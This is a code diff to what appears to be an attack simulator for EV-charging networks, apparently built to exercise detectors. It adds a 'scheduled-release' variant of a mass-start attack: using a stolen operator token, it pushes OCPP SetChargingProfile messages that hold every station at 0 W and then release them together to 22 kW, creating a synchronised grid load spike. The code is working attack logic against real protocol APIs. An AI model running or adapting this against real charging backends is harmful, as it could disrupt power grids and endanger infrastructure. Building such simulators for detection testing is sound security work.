@@ -38,6 +38,14 @@ export interface AttackTarget {
   /** mass-start: the node's API base URL and a (stolen) operator token. */
   api?: string;
   token?: string;
+  /**
+   * mass-start, scheduled-release variant: instead of starting sessions, send each station a
+   * SetChargingProfile that holds it at 0 W and releases it to `limitW` (default 22 kW) `inS`
+   * seconds after the attack began, all from one startSchedule: a synchronised future step
+   * that adds no load when sent. `spreadS` > 0 spreads the releases evenly over that many
+   * seconds instead (what a careful operator does).
+   */
+  scheduledRelease?: { inS: number; spreadS?: number; limitW?: number };
   /** Repetitions; each mode has a default that crosses its detector's default threshold. */
   count?: number;
   /** A second loopback address for the duplicate identity (default 127.0.0.2). */
@@ -223,8 +231,19 @@ export async function runAttack(mode: AttackMode, target: AttackTarget): Promise
       case 'mass-start': {
         if (!target.api || !target.token) throw simErrors.SIM_BAD_OPTIONS('mass-start needs the API URL and an operator token');
         let done = 0;
+        const rel = target.scheduledRelease;
+        if (rel && !(Number.isFinite(rel.inS) && rel.inS >= 1 && (rel.spreadS ?? 0) >= 0 && (rel.limitW ?? 22_000) > 0)) throw simErrors.SIM_BAD_OPTIONS('scheduledRelease needs inS >= 1, spreadS >= 0 and limitW > 0');
+        const startSchedule = new Date().toISOString();
+        const releaseBody = (i: number) => {
+          const at = Math.round(rel!.inS + ((rel!.spreadS ?? 0) * i) / Math.max(1, target.stationIds.length - 1));
+          const schedule = { startSchedule, chargingRateUnit: 'W', chargingSchedulePeriod: [{ startPeriod: 0, limit: 0 }, { startPeriod: at, limit: rel!.limitW ?? 22_000 }] };
+          const base = { stackLevel: 8, chargingProfilePurpose: 'TxDefaultProfile', chargingProfileKind: 'Absolute' };
+          return v2
+            ? { action: 'SetChargingProfile', payload: { evseId: 0, chargingProfile: { id: 4242, ...base, chargingSchedule: [{ id: 1, ...schedule }] } } }
+            : { action: 'SetChargingProfile', payload: { connectorId: 0, csChargingProfiles: { chargingProfileId: 4242, ...base, chargingSchedule: schedule } } };
+        };
         await Promise.all(target.stationIds.map(async (sid, i) => {
-          const body = v2 ? { action: 'RequestStartTransaction', payload: { idToken: { idToken: 'MASSSTART01', type: 'Central' }, remoteStartId: i + 1, evseId: 1 } } : { action: 'RemoteStartTransaction', payload: { idTag: 'MASSSTART01', connectorId: 1 } };
+          const body = rel ? releaseBody(i) : v2 ? { action: 'RequestStartTransaction', payload: { idToken: { idToken: 'MASSSTART01', type: 'Central' }, remoteStartId: i + 1, evseId: 1 } } : { action: 'RemoteStartTransaction', payload: { idTag: 'MASSSTART01', connectorId: 1 } };
           report.sent++;
           const res = await fetch(`${target.api!.replace(/\/$/, '')}/api/v1/stations/${encodeURIComponent(sid)}/calls`, { method: 'POST', headers: { authorization: `Bearer ${target.token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) }).catch((err: Error) => err);
           if (res instanceof Error) tally(report, `network:${res.message.slice(0, 40)}`);
